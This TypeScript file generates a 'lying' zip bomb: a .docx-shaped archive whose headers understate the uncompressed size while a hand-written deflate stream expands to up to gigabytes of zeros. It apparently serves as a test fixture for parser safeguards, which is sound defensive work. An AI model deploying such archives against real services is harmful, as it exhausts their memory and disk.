/**
 * A zip bomb that lies: its local and central headers claim `word/document.xml` is `claimed`
 * bytes, but its data inflates to `inflated` bytes of zeros. The deflate stream is written by
 * hand (one dynamic-Huffman block: a literal 0, then length-258/distance-1 copies of one bit
 * each), so a 1 GB bomb is ~1 MB and is made in milliseconds instead of deflating 1 GB.
 */

class BitWriter {
  private readonly bytes: Uint8Array;
  private bit = 0;
  constructor(size: number) {
    this.bytes = new Uint8Array(size);
  }
  /** `count` bits of `value`, least significant first (deflate's header fields and extras). */
  bits(value: number, count: number): void {
    for (let i = 0; i < count; i++) this.put((value >>> i) & 1);
  }
  /** A Huffman code, most significant bit first. */
  code(value: number, length: number): void {
    for (let i = length - 1; i >= 0; i--) this.put((value >>> i) & 1);
  }
  /** `count` zero bits, cheaply (the buffer starts zeroed). */
  zeros(count: number): void {
    this.bit += count;
  }
  private put(b: number): void {
    if (b) this.bytes[this.bit >>> 3]! |= 1 << (this.bit & 7);
    this.bit++;
  }
  done(): Uint8Array {
    return this.bytes.subarray(0, (this.bit + 7) >>> 3);
  }
}

/** Raw deflate data that inflates to at least `size` zero bytes (1 + 258·n). */
export function deflateZeros(size: number): Uint8Array {
  const copies = Math.max(1, Math.ceil((size - 1) / 258));
  const w = new BitWriter(64 + Math.ceil((2 * copies) / 8));
  w.bits(1, 1); // BFINAL
  w.bits(2, 2); // dynamic Huffman
  w.bits(29, 5); // HLIT: 286 literal/length codes
  w.bits(1, 5); // HDIST: 2 distance codes
  w.bits(14, 4); // HCLEN: 18 code-length codes
  // Code-length code lengths in the order 16 17 18 0 8 7 9 6 10 5 11 4 12 3 13 2 14 1:
  // symbol 18 → 1 bit (code 0), symbols 1 and 2 → 2 bits (codes 10, 11).
  const order = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1];
  const clen: Record<number, number> = { 18: 1, 1: 2, 2: 2 };
  for (const s of order) w.bits(clen[s] ?? 0, 3);
  const two = (): void => w.code(0b11, 2);
  const one = (): void => w.code(0b10, 2);
  const zerosRun = (n: number): void => {
    w.code(0, 1); // symbol 18: n zeros, 11..138
    w.bits(n - 11, 7);
  };
  // Literal/length lengths: 0 → 2, 1..255 → 0, 256 → 2, 257..284 → 0, 285 → 1; distances 1, 1.
  two();
  zerosRun(138);
  zerosRun(117);
  two();
  zerosRun(28);
  one();
  one();
  one();
  // Canonical codes: 285 → 0, literal 0 → 10, end of block → 11; distance 0 → 0.
  w.code(0b10, 2); // literal 0
  w.zeros(2 * copies); // each: length 258 (code 0), distance 1 (code 0)
  w.code(0b11, 2); // end of block
  return w.done();
}

const le16 = (v: number): number[] => [v & 0xff, (v >>> 8) & 0xff];
const le32 = (v: number): number[] => [...le16(v & 0xffff), ...le16(v >>> 16)];

/** A .docx-looking zip whose only entry claims `claimed` bytes but inflates to `inflated`. */
export function lyingZipBomb(
  inflated: number,
  claimed = 500 * 1024,
  name = 'word/document.xml',
): Uint8Array {
  const data = deflateZeros(inflated);
  const fileName = new TextEncoder().encode(name);
  const common = [
    ...le16(20), // version needed
    ...le16(0), // flags
    ...le16(8), // deflate
    ...le16(0),
    ...le16(0x21), // time, date
    ...le32(0x12345678), // a CRC that matches nothing
    ...le32(data.length),
    ...le32(claimed),
    ...le16(fileName.length),
    ...le16(0), // extra
  ];
  const local = [...le32(0x04034b50), ...common];
  const central = [
    ...le32(0x02014b50),
    ...le16(20), // version made by
    ...common,
    ...le16(0), // comment
    ...le16(0), // disk
    ...le16(0), // internal attributes
    ...le32(0), // external attributes
    ...le32(0), // local header offset
  ];
  const centralAt = local.length + fileName.length + data.length;
  const centralSize = central.length + fileName.length;
  const end = [
    ...le32(0x06054b50),
    ...le16(0),
    ...le16(0),
    ...le16(1),
    ...le16(1),
    ...le32(centralSize),
    ...le32(centralAt),
    ...le16(0),
  ];
  const out = new Uint8Array(centralAt + centralSize + end.length);
  out.set(local, 0);
  out.set(fileName, local.length);
  out.set(data, local.length + fileName.length);
  out.set(central, centralAt);
  out.set(fileName, centralAt + central.length);
  out.set(end, centralAt + centralSize);
  return out;
}
